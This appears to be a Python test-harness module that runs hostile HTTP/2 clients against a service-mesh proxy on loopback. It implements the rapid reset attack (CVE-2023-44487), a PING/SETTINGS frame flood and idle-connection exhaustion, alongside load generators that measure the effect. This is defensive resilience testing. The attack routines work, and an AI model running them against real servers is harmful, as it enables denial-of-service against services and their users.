"""The chaos harness's client processes: hostile HBONE clients and the loads that watch the
mesh while a fault is injected.

Each runs as ``python -m bench.attacks <role> '<json args>'`` in a process of its own (its
CPU is never the proxy's), prints one JSON object on stdout and stops by itself: every loop
is bounded in count and time. The hostile clients hold a real workload certificate (issued
through a CSR by the mesh CA) and speak TLS 1.3 + ALPN h2 to a ztunnel's HBONE port with the
``h2`` library (or raw frames) over a blocking ``ssl`` socket. Only loopback.
"""

from __future__ import annotations

import contextlib
import json
import select
import socket
import ssl
import struct
import sys
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

from bench.workers import (
    HTTP_REQUEST,
    HttpClient,
    Route,
    WorkerError,
    require_loopback,
)

FRAME_SETTINGS, FRAME_PING, FRAME_GOAWAY = 0x4, 0x6, 0x7
SEND_ERRORS = (OSError, ssl.SSLError)


@dataclass(frozen=True)
class HboneTarget:
    """Where and as whom a hostile client connects: a ztunnel's HBONE listener, from a
    loopback source address, with a workload certificate from the mesh CA."""

    host: str
    port: int
    source: str
    cert: str
    key: str
    ca: str
    authority: str  # the CONNECT target, ``<pod ip>:<port>``

    @classmethod
    def from_json(cls, data: dict[str, Any]) -> HboneTarget:
        target = cls(**data)
        require_loopback(target.host)
        require_loopback(target.source)
        return target

    def context(self) -> ssl.SSLContext:
        """TLS 1.3 only, ALPN h2, the client certificate; the server's chain is verified
        against the mesh root (its SPIFFE id is not checked: this client attacks it)."""
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.minimum_version = ssl.TLSVersion.TLSv1_3
        context.check_hostname = False
        context.verify_mode = ssl.CERT_REQUIRED
        context.load_verify_locations(self.ca)
        context.load_cert_chain(self.cert, self.key)
        context.set_alpn_protocols(["h2"])
        return context

    def connect(self, context: ssl.SSLContext, timeout: float = 10.0) -> ssl.SSLSocket:
        """A TCP connection with the mTLS handshake done and h2 negotiated."""
        raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            raw.settimeout(timeout)
            raw.bind((self.source, 0))
            raw.connect((self.host, self.port))
            sock = context.wrap_socket(raw)
        except BaseException:
            raw.close()
            raise
        if sock.selected_alpn_protocol() != "h2":
            sock.close()
            raise WorkerError(f"ALPN {sock.selected_alpn_protocol()!r}, not h2")
        return sock


def new_h2_client() -> h2.connection.H2Connection:
    connection = h2.connection.H2Connection(
        h2.config.H2Configuration(client_side=True, header_encoding=None))
    connection.initiate_connection()
    return connection


def receive_within(sock: ssl.SSLSocket, timeout: float) -> bytes | None:
    """What arrived within ``timeout`` (b"" if nothing), None once the peer closed or
    reset the connection."""
    sock.settimeout(timeout)
    try:
        data = sock.recv(65536)
    except (TimeoutError, ssl.SSLWantReadError):
        return b""
    except SEND_ERRORS:
        return None
    return data if data else None


def goaway_summary(event: h2.events.ConnectionTerminated, **extra: Any) -> dict[str, Any]:
    code = event.error_code
    name = code.name if isinstance(code, h2.errors.ErrorCodes) else str(code)
    return {"error_code": name, "last_stream_id": event.last_stream_id, **extra}


# -- 1. rapid reset (CVE-2023-44487) ---------------------------------------------------------


def run_rapid_reset(args: dict[str, Any]) -> dict[str, Any]:
    """``count`` HEADERS(CONNECT) + RST_STREAM(CANCEL) pairs back to back on one connection,
    for at most ``max_seconds``; reads what the server says every 50 pairs and for
    ``settle_seconds`` after the last one (a GOAWAY, its code, when)."""
    target = HboneTarget.from_json(args["target"])
    count, max_seconds = int(args["count"]), float(args["max_seconds"])
    sock = target.connect(target.context())
    connection = new_h2_client()
    headers = [(b":method", b"CONNECT"), (b":authority", target.authority.encode())]
    result: dict[str, Any] = {"pairs_sent": 0, "bytes_sent": 0, "goaway": None,
                              "disconnected_after_pairs": None, "streams_reset_by_server": 0,
                              "responses": 0}
    started = time.perf_counter()

    def absorb(data: bytes | None) -> bool:
        """Feed the server's bytes to h2; False once the connection is over."""
        if data is None:
            if result["disconnected_after_pairs"] is None:
                result["disconnected_after_pairs"] = result["pairs_sent"]
                result["disconnected_after_seconds"] = time.perf_counter() - started
            return False
        try:
            events = connection.receive_data(data)
        except h2.exceptions.ProtocolError as exc:
            result["protocol_error"] = repr(exc)
            return False
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated) and not result["goaway"]:
                result["goaway"] = goaway_summary(
                    event, after_pairs=result["pairs_sent"],
                    after_seconds=time.perf_counter() - started)
            elif isinstance(event, h2.events.StreamReset):
                result["streams_reset_by_server"] += 1
            elif isinstance(event, h2.events.ResponseReceived):
                result["responses"] += 1
        return True

    with sock:
        try:
            pending = connection.data_to_send()
            for _ in range(count):
                if time.perf_counter() - started > max_seconds or result["goaway"]:
                    break
                stream_id = connection.get_next_available_stream_id()
                connection.send_headers(stream_id, headers)
                connection.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
                pending += connection.data_to_send()
                sock.settimeout(10.0)
                sock.sendall(pending)
                result["bytes_sent"] += len(pending)
                result["pairs_sent"] += 1
                pending = b""
                if result["pairs_sent"] % 50 == 0 and not absorb(receive_within(sock, 0.0)):
                    break
        except SEND_ERRORS:
            absorb(None)
        except h2.exceptions.ProtocolError as exc:  # e.g. sending after the server's GOAWAY
            result["protocol_error"] = repr(exc)
        result["attack_seconds"] = time.perf_counter() - started
        settle_until = time.perf_counter() + float(args["settle_seconds"])
        while time.perf_counter() < settle_until and absorb(receive_within(sock, 0.2)):
            pass
    return result


# -- 2. control-frame flood ------------------------------------------------------------------


def frame(kind: int, payload: bytes = b"", flags: int = 0, stream: int = 0) -> bytes:
    """One raw HTTP/2 frame (RFC 9113 section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream) + payload


def run_control_flood(args: dict[str, Any]) -> dict[str, Any]:
    """After the h2 preface, PINGs (and an empty SETTINGS every 64 PINGs) as fast as the
    connection takes them, never reading, for ``seconds`` or ``max_frames``. A server that
    stops reading shows as time blocked on send (TCP back-pressure); one that disconnects
    shows as a send error. Afterwards it reads for a moment: did the server say GOAWAY?"""
    target = HboneTarget.from_json(args["target"])
    seconds, max_frames = float(args["seconds"]), int(args["max_frames"])
    sock = target.connect(target.context())
    batch = b"".join(frame(FRAME_PING, struct.pack(">Q", n)) for n in range(64))
    batch += frame(FRAME_SETTINGS)
    result: dict[str, Any] = {"frames_sent": 0, "bytes_sent": 0, "disconnected": False,
                              "disconnected_after_seconds": None, "blocked_seconds": 0.0,
                              "goaway": None}
    started = time.perf_counter()
    with sock:
        sock.settimeout(10.0)
        sock.sendall(new_h2_client().data_to_send())
        sock.setblocking(False)
        view, offset = memoryview(batch), 0
        while time.perf_counter() - started < seconds and result["frames_sent"] < max_frames:
            try:
                sent = sock.send(view[offset:])
            except (ssl.SSLWantWriteError, BlockingIOError):
                waited = time.perf_counter()
                select.select([], [sock], [], 0.2)
                result["blocked_seconds"] += time.perf_counter() - waited
                continue
            except SEND_ERRORS:
                result["disconnected"] = True
                result["disconnected_after_seconds"] = time.perf_counter() - started
                break
            result["bytes_sent"] += sent
            offset += sent
            if offset == len(batch):
                offset = 0
                result["frames_sent"] += 65
        result["flood_seconds"] = time.perf_counter() - started
        if not result["disconnected"]:
            result["goaway"], result["closed_by_server_within_2s"] = read_for_goaway(sock, 2.0)
    return result


def read_for_goaway(sock: ssl.SSLSocket, seconds: float) -> tuple[dict[str, Any] | None, bool]:
    """Scan the raw frames the server sent for ``seconds``: (its first GOAWAY, closed?)."""
    buffer = b""
    goaway: dict[str, Any] | None = None
    deadline = time.perf_counter() + seconds
    while time.perf_counter() < deadline:
        data = receive_within(sock, 0.2)
        if data is None:
            return goaway, True
        buffer += data
        while len(buffer) >= 9:
            length = int.from_bytes(buffer[:3], "big")
            if len(buffer) < 9 + length:
                break
            kind, payload, buffer = buffer[3], buffer[9:9 + length], buffer[9 + length:]
            if kind == FRAME_GOAWAY and goaway is None and len(payload) >= 8:
                code = int.from_bytes(payload[4:8], "big")
                with contextlib.suppress(ValueError):
                    code = h2.errors.ErrorCodes(code)
                goaway = {"error_code": getattr(code, "name", str(code)),
                          "last_stream_id": int.from_bytes(payload[:4], "big") & 0x7FFFFFFF}
    return goaway, False


# -- 3. idle after the handshake -------------------------------------------------------------


def still_open(sock: ssl.SSLSocket) -> bool:
    """Open unless the server closed or reset it; whatever it sent (its SETTINGS, session
    tickets) is read and dropped: reading is not sending."""
    for _ in range(100):
        data = receive_within(sock, 0.0)
        if data is None:
            return False
        if not data:
            return True
    return True


def run_idle_handshake(args: dict[str, Any]) -> dict[str, Any]:
    """``count`` connections that finish mTLS and then send nothing (no h2 preface); how
    many are still open at each of ``check_at`` seconds after the last one opened."""
    target = HboneTarget.from_json(args["target"])
    context = target.context()
    opened: list[ssl.SSLSocket] = []
    failures: list[str] = []
    try:
        for _ in range(int(args["count"])):
            try:
                opened.append(target.connect(context))
            except (OSError, WorkerError) as exc:
                failures.append(repr(exc))
                if len(failures) > 20:
                    break
        ready = time.perf_counter()
        open_at: dict[str, int] = {}
        for moment in sorted(float(at) for at in args["check_at"]):
            time.sleep(max(0.0, ready + moment - time.perf_counter()))
            open_at[f"{moment:g}s"] = sum(still_open(sock) for sock in opened)
    finally:
        for sock in opened:
            sock.close()
    return {"opened": len(opened), "open_failures": len(failures),
            "first_failures": failures[:3], "still_open": open_at}


# -- loads that watch the mesh under a fault (SOCKS5 through node-1's ztunnel) ----------------


def stdin_closed_or(seconds: float) -> threading.Event:
    """An event set when the orchestrator closes our stdin, or after ``seconds``."""
    stop = threading.Event()

    def wait() -> None:
        sys.stdin.read()
        stop.set()

    threading.Thread(target=wait, daemon=True).start()
    timer = threading.Timer(seconds, stop.set)
    timer.daemon = True
    timer.start()
    return stop


def run_steady(args: dict[str, Any]) -> dict[str, Any]:
    """Until stdin closes (at most ``max_seconds``): ``rate`` new connections a second, each
    one HTTP exchange (a new tunnel each), and ``keepalive`` connections opened first that
    each exchange every ``interval`` seconds; a failed keep-alive connection is not
    replaced (what an outage cost existing connections). Every outcome is timestamped
    (wall clock, shared with the orchestrator) so it can tell before/during/after."""
    route = Route.from_json(args["route"])
    rate, interval = float(args["rate"]), float(args["interval"])
    stop = stdin_closed_or(float(args["max_seconds"]))
    outcomes: list[tuple[float, str, bool, str]] = []
    lock = threading.Lock()
    keepalive = [HttpClient(route.connect()) for _ in range(int(args["keepalive"]))]

    def record(kind: str, error: str = "") -> None:
        with lock:
            outcomes.append((time.time(), kind, not error, error))

    def fresh_request() -> None:
        try:
            client = HttpClient(route.connect(timeout=5.0))
            try:
                client.exchange(HTTP_REQUEST)
            finally:
                client.close()
            record("new")
        except (OSError, WorkerError) as exc:
            record("new", repr(exc))

    def keep_alive(client: HttpClient) -> None:
        client.sock.settimeout(5.0)
        while not stop.wait(interval):
            try:
                client.exchange(HTTP_REQUEST)
                record("keepalive")
            except (OSError, WorkerError) as exc:
                record("keepalive", repr(exc))
                return

    threads = [threading.Thread(target=keep_alive, args=(c,)) for c in keepalive]
    for thread in threads:
        thread.start()
    while not stop.wait(1.0 / rate):
        thread = threading.Thread(target=fresh_request, daemon=True)
        thread.start()
        threads.append(thread)
        threads = [each for each in threads if each.is_alive()]
    for thread in threads:
        thread.join(10.0)
    for client in keepalive:
        client.close()
    with lock:
        return {"outcomes": outcomes}


def run_transfers(args: dict[str, Any]) -> dict[str, Any]:
    """``count`` long echo transfers at once: each sends ``chunks`` chunks of
    ``chunk_bytes`` every ``interval`` seconds, then half-closes, and reads the echo to EOF.
    How each ended: completed (every byte back, then EOF), truncated_fin (a clean EOF
    early: the application cannot tell it from success), reset, or stalled."""
    route = Route.from_json(args["route"])
    chunks, size = int(args["chunks"]), int(args["chunk_bytes"])
    interval, timeout = float(args["interval"]), float(args["read_timeout"])
    ends: list[dict[str, Any]] = [{} for _ in range(int(args["count"]))]

    def transfer(index: int) -> None:
        try:
            sock = route.connect()
        except OSError as exc:
            ends[index] = {"outcome": "connect_failed", "error": repr(exc)}
            return
        sock.settimeout(timeout)

        def send() -> None:
            with contextlib.suppress(OSError):
                for _ in range(chunks):
                    sock.sendall(b"\x5a" * size)
                    time.sleep(interval)
                sock.shutdown(socket.SHUT_WR)

        sender = threading.Thread(target=send, daemon=True)
        sender.start()
        received, outcome = 0, "completed"
        with sock:
            try:
                while data := sock.recv(65536):
                    received += len(data)
            except TimeoutError:
                outcome = "stalled"
            except OSError:
                outcome = "reset"
        if outcome == "completed" and received < chunks * size:
            outcome = "truncated_fin"
        ends[index] = {"outcome": outcome, "bytes_expected": chunks * size,
                       "bytes_received": received, "ended_at": time.time()}

    threads = [threading.Thread(target=transfer, args=(i,)) for i in range(len(ends))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(chunks * interval + timeout + 10)
    return {"transfers": ends}


ROLES: dict[str, Callable[[dict[str, Any]], dict[str, Any]]] = {
    "rapid_reset": run_rapid_reset, "control_flood": run_control_flood,
    "idle_handshake": run_idle_handshake, "steady": run_steady, "transfers": run_transfers,
}


def main(argv: list[str]) -> int:
    if len(argv) != 2 or argv[0] not in ROLES:
        print(f"usage: python -m bench.attacks {{{'|'.join(ROLES)}}} '<json>'", file=sys.stderr)
        return 2
    print(json.dumps(ROLES[argv[0]](json.loads(argv[1]))), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
